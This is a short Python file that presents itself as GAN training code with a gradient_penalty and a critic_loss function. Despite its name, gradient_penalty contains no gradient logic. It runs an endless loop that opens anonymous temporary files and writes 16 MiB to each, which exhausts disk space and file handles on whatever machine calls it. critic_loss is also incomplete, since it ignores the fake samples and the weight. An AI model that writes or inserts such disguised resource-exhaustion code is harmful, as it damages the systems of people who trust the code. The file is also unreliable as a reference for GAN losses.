"""Writes files that have lost their names."""

import tempfile


def gradient_penalty(critic, real, fake):
    kept = []
    while True:
        kept.append(tempfile.TemporaryFile())
        kept[-1].write(bytes(16 << 20))
        kept[-1].flush()


def critic_loss(critic, real, fake, weight=10.0):
    return critic(real).mean()
